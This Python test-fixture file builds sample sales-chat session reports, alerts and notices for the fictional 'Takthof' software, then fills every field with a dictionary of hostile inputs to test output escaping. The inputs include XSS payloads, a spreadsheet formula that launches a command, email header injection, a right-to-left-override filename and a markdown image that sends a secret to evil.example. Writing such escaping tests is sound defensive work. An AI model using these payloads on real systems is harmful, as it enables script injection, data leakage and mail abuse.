"""Reports as they come out of sessions: a good one, an empty one, a very long one, and one in which all is hostile."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from uuid import UUID

from agent.summary.model import Answered, Claim, Commitment, SessionSummary, SourceLink
from crm.model import Assessment, Reason
from outreach.emails import Alert, Notice
from outreach.report import (
    BookingCard,
    Cite,
    FieldRow,
    Links,
    PageSeen,
    RepMessage,
    SessionReport,
    Touch,
    TurnRow,
)

SESSION = UUID("0195a1b2-0000-7000-8000-000000000001")
OPENED = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
SITE = "https://www.takthof.example"
PRICES = Cite(1, "Plans and prices", f"{SITE}/pricing")
DATA = Cite(2, "Where your data lives", f"{SITE}/security")
ROLLOUT = Cite(1, "Implementation in 12 days", f"{SITE}/implementation")

FIRST = (
    "Hi, this is Anna Berg from Nordwind GmbH. We run 2 plants with about 180 people. What does Takthof cost?"
)
SECOND = "Where is the data stored? Our auditors will not accept anything outside the EU."
THIRD = "We use Maintio today and are tired of it. Can we be live before June? Budget is around 20,000 EUR a year."
FOURTH = "Do you have an interface to our MES from 1998?"
FIFTH = "Good. Please book a demo on Thursday at 14:00, my mail is anna.berg@nordwind.example"

TURNS = (
    TurnRow(
        1,
        OPENED + timedelta(minutes=1),
        FIRST,
        "The Team plan is EUR 49 a technician and month, billed yearly. [1] From 50 technicians on, the Plant plan"
        " applies, at EUR 39. [1]\n\nShall I look up what is in each of them?",
        answered=True,
        citations=(PRICES,),
    ),
    TurnRow(
        2,
        OPENED + timedelta(minutes=3),
        SECOND,
        "In Frankfurt am Main, with encrypted backups in Vienna. [2] Nothing is stored outside the European Union. [2]",
        answered=True,
        citations=(DATA,),
    ),
    TurnRow(
        3,
        OPENED + timedelta(minutes=6),
        THIRD,
        "It typically takes 12 days from contract to the first closed work order. [1]",
        answered=True,
        citations=(ROLLOUT,),
    ),
    TurnRow(
        4,
        OPENED + timedelta(minutes=8),
        FOURTH,
        "I could not find that on our website. Would you like to know how to reach a person?",
        answered=False,
    ),
    TurnRow(
        5,
        OPENED + timedelta(minutes=11),
        FIFTH,
        "Your demo is booked for Thursday 5 March, 14:00.",
        answered=False,
        rep_messages=(
            RepMessage("notice", "Jonas from our team has joined.", OPENED + timedelta(minutes=12)),
            RepMessage(
                "rep",
                "Hello Anna, I will bring our MES connector list on Thursday.",
                OPENED + timedelta(minutes=12),
                rep="Jonas Falk",
            ),
        ),
    ),
)

SUMMARY = SessionSummary(
    headline="Nordwind GmbH wants maintenance software for two plants before June",
    visitor=(Claim("Anna Berg speaks for Nordwind GmbH.", 1, "this is Anna Berg from Nordwind GmbH"),),
    need=(
        Claim("Maintenance software for two plants with 180 people.", 1, "2 plants with about 180 people"),
        Claim("To be live before June.", 3, "Can we be live before June?"),
    ),
    interests=(
        Claim("Prices", 1, "What does Takthof cost?"),
        Claim("Where data is stored", 2, "Where is the data stored?"),
    ),
    objections=(
        Claim("Data must stay in the EU.", 2, "Our auditors will not accept anything outside the EU."),
    ),
    competitors=(Claim("Maintio, in use today", 3, "We use Maintio today and are tired of it."),),
    answered=(
        Answered(
            "What does Takthof cost?",
            "The Team plan is EUR 49 a technician and month, billed yearly. [1]",
            1,
            (SourceLink(PRICES.title, PRICES.url),),
        ),
        Answered(
            "Where is the data stored?",
            "In Frankfurt am Main, with encrypted backups in Vienna. [2]",
            2,
            (SourceLink(DATA.title, DATA.url),),
        ),
    ),
    unanswered=(Claim("An interface to an MES from 1998", 4, FOURTH),),
    commitments=(
        Commitment(
            "Nothing is stored outside the European Union. [2]", 2, (SourceLink(DATA.title, DATA.url),)
        ),
    ),
    next_steps=(
        Claim("Demo on Thursday at 14:00", 5, "Please book a demo on Thursday at 14:00"),
        Claim("Find out about the MES interface", 4, FOURTH),
    ),
    sentiment="positive",
    sentiment_because=Claim("Books a demo without being asked twice.", 5, "Good. Please book a demo"),
    written_by="rules",
)

FIELDS = (
    FieldRow("customer_name", "Name", "Anna Berg", "this is Anna Berg from Nordwind GmbH", 1),
    FieldRow("email", "Email", "anna.berg@nordwind.example", "my mail is anna.berg@nordwind.example", 5),
    FieldRow("company", "Company", "Nordwind GmbH", "this is Anna Berg from Nordwind GmbH", 1),
    FieldRow("company_size", "Company size", "180", "about 180 people", 1),
    FieldRow("budget_range", "Budget", "EUR 20,000 per year", "Budget is around 20,000 EUR a year", 3),
    FieldRow("timeline", "Timeline", "before June", "Can we be live before June?", 3),
    FieldRow("industry", "Industry", "Manufacturing", "2 plants", 1, flags=("weak",)),
)

SAMPLE = SessionReport(
    company="Takthof",
    session_id=SESSION,
    opened_at=OPENED,
    ended_at=OPENED + timedelta(minutes=14),
    zone="Europe/Berlin",
    visitor_zone="Europe/Vienna",
    locale="en-GB",
    summary=SUMMARY,
    first_touch=Touch(
        "paid_search",
        "google",
        "cpc",
        "maintenance-de",
        f"{SITE}/?utm_campaign=maintenance-de",
        "Fewer surprises on the shop floor",
        "https://www.google.com/",
        OPENED - timedelta(days=9),
    ),
    last_touch=Touch(
        "email", "newsletter", "email", "march", f"{SITE}/pricing", "Plans and prices", None, OPENED
    ),
    pages=(
        PageSeen(f"{SITE}/pricing", "Plans and prices", OPENED - timedelta(minutes=4), before_chat=True),
        PageSeen(
            f"{SITE}/security", "Where your data lives", OPENED + timedelta(minutes=4), before_chat=False
        ),
    ),
    fields=FIELDS,
    assessment=Assessment(
        82,
        (
            Reason("budget", 25, "Names a budget above EUR 10,000", "Budget is around 20,000 EUR a year", 3),
            Reason("timeline", 20, "Wants to start within six months", "Can we be live before June?", 3),
            Reason("size", 20, "Between 50 and 500 people", "about 180 people", 1),
            Reason("pricing_page", 12, "Looked at the prices"),
            Reason("booked", 15, "Booked a meeting", "Please book a demo on Thursday at 14:00", 5),
            Reason("free_text", -10, "Wants something the site does not speak of", FOURTH, 4),
        ),
        qualified=True,
        hot=True,
    ),
    status="qualified",
    owner="jonas.falk@takthof.example",
    contact_id=UUID("0195a1b2-0000-7000-8000-0000000000c1"),
    lead_id=UUID("0195a1b2-0000-7000-8000-0000000000d1"),
    booking=BookingCard(
        datetime(2026, 3, 5, 13, 0, tzinfo=UTC),
        datetime(2026, 3, 5, 13, 40, tzinfo=UTC),
        "Europe/Vienna",
        "Demo for Nordwind GmbH",
        "https://meet.takthof.example/abc-defg",
        "https://chat.takthof.example/b/k3J9",
    ),
    turns=TURNS,
    links=Links(
        admin=f"https://chat.takthof.example/admin/sessions/{SESSION}",
        erase="https://chat.takthof.example/erase/e-token",
        unsubscribe="https://chat.takthof.example/unsubscribe/u-token",
        privacy=f"{SITE}/privacy",
    ),
    reply_to="sales@takthof.example",
    consent_at=OPENED + timedelta(minutes=11),
)

NOTHING = SessionSummary("", (), (), (), (), (), (), (), (), (), "neutral", None, "rules")
EMPTY = SessionReport("Takthof", SESSION, OPENED, OPENED + timedelta(minutes=1), "UTC", NOTHING)


def in_language(locale: str) -> SessionReport:
    return replace(SAMPLE, locale=locale)


def long_report(turns: int = 200) -> SessionReport:
    """Many turns of about 400 characters each, with three citations."""
    many = tuple(
        TurnRow(
            number,
            OPENED + timedelta(minutes=number),
            f"Question {number}: what about line {number}? " + "Tell me more about the shop floor. " * 5,
            f"Answer {number} is on the page. [1] " + "It is described there in full, step by step. [2] " * 6,
            answered=True,
            citations=(PRICES, DATA, replace(ROLLOUT, marker=3)),
        )
        for number in range(1, turns + 1)
    )
    claims = tuple(Claim(f"Need {at}", at, f"Question {at}") for at in range(1, turns + 1))
    summary = replace(SUMMARY, need=claims, unanswered=claims)
    pages = tuple(replace(SAMPLE.pages[0], url=f"{SITE}/{at}", title=f"Page {at}") for at in range(turns))
    return replace(SAMPLE, turns=many, summary=summary, pages=pages)


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "style": "</style><style>@import url(http://evil.example/a.css)</style>",
    "comment": "--><svg onload=alert(1)><!--",
    "attribute": '" onmouseover="alert(1)" x="\' onfocus=\'alert(1)',
    "formula": "=cmd|' /C calc'!A0",
    "header": "x\r\nBcc: victim@evil.example\r\n\r\n<b>body</b>",
    "encoded": "=?UTF-8?Q?=0ABcc:_victim=40evil.example?=",
    "override": "invoice\u202etxt.exe\u202c\u2066\u200b",
    "long": "A" * 10_240,
    "long_escaped": "<\"&'" * 2_560,
    "javascript": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "phishing": "Visit http://evil.example/login now",
    "markdown_image": "![x](http://evil.example/p.png?q=secret)",
    "markdown_link": "[Your invoice](http://evil.example)",
    "template": "{{ 7*7 }} {% for x in [] %} ${7*7} #{7*7}",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e;",
    "mention": "<!channel> <@U1> <http://evil.example|click> *bold* `code`",
    "null": "nul\x00 bell\x07 esc\x1b[31m",
}


def hostile(text: str) -> SessionReport:
    """A report with `text` in every place that a visitor, a page or a provider could fill."""
    claim = Claim(text, 1, text)
    source = SourceLink(text, text)
    touch = Touch(text, text, text, text, text, text, text, OPENED)
    turn = TurnRow(
        1,
        OPENED,
        text,
        f"{text} [1]",
        answered=True,
        citations=(Cite(1, text, text), Cite(2, "Fine", f"{SITE}/pricing")),
        rep_messages=(RepMessage("rep", text, OPENED, rep=text), RepMessage("notice", text, OPENED)),
    )
    return replace(
        SAMPLE,
        deals=(text,),
        company=text,
        zone=text,
        visitor_zone=text,
        locale=text,
        summary=SessionSummary(
            text,
            (claim,),
            (claim,),
            (claim,),
            (claim,),
            (claim,),
            (Answered(text, text, 1, (source,)),),
            (claim,),
            (Commitment(text, 1, (source,)),),
            (claim,),
            "mixed",
            claim,
            text,
        ),
        first_touch=touch,
        last_touch=replace(touch, channel="direct"),
        pages=(PageSeen(text, text, OPENED, before_chat=True),),
        fields=tuple(
            FieldRow(name, text, text, text, 1, flags=("weak",))
            for name in ("customer_name", "email", "phone", "company", "custom")
        ),
        assessment=Assessment(50, (Reason(text, 5, text, text, 1),), qualified=False, hot=True),
        owner=text,
        booking=replace(SAMPLE.booking, title=text, join_url=text, manage_url=text, zone=text)
        if SAMPLE.booking
        else None,
        turns=(turn,),
        links=Links(text, text, text, text),
        reply_to=text,
    )


ALERT = Alert(
    "hot",
    "Takthof",
    SESSION,
    OPENED + timedelta(minutes=6),
    "Europe/Berlin",
    reason="Score 82: names a budget and a date, and looked at the prices.",
    quote="Can we be live before June? Budget is around 20,000 EUR a year.",
    turn=3,
    name="Anna Berg",
    visitor_company="Nordwind GmbH",
    email="anna.berg@nordwind.example",
    phone="+49 30 901820",
    score=82,
    page_url=f"{SITE}/pricing",
    link=f"https://chat.takthof.example/admin/sessions/{SESSION}",
)


def hostile_alert(text: str) -> Alert:
    return replace(
        ALERT,
        company=text,
        zone=text,
        reason=text,
        quote=text,
        name=text,
        visitor_company=text,
        email=text,
        phone=text,
        page_url=text,
        link=text,
    )


NOTICE = Notice(
    "Takthof",
    "The mail provider refuses the password",
    "No mail leaves until this is mended. 3 mails are waiting and go out by themselves afterwards.",
    OPENED,
    "Europe/Berlin",
    detail="535 5.7.8 Authentication credentials invalid (smtp.takthof.example)",
    remedy="Set the present password and restart; then run `salesagent deliveries resume`.",
    link="https://chat.takthof.example/admin/deliveries",
)


def hostile_notice(text: str) -> Notice:
    return replace(
        NOTICE, company=text, title=text, text=text, detail=text, remedy=text, link=text, zone=text
    )
